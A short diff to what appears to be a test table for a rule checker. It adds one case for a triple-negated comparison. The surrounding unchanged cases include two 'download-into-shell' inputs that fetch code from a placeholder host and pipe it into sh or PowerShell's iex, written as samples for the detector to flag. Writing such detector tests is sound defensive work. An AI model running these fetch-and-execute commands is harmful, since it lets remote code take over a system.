@@ -57,6 +57,7 @@ describe.each([
   ["comparison-with-bool", `log "x" when last.succeeded != false`, "last.succeeded != false"],
   ["negated-comparison", `log "x" when not (site == "a")`, `not (site == "a")`],
   ["negated-comparison", `log "x" when not (site == "a" or site == "b")`, undefined],
+  ["negated-comparison", `log "x" when not not not (site == "a" or false)`, `not not not (site == "a" or false)`],
   ["same-operands", `log "x" when site == "a" or site == "a"`, `site == "a" or site == "a"`],
   ["download-into-shell", `sh 'curl -O https://a.example/x; sh ./y'`, undefined],
   ["download-into-shell", `powershell 'irm https://a.example | iex'`, `'irm https://a.example | iex'`],
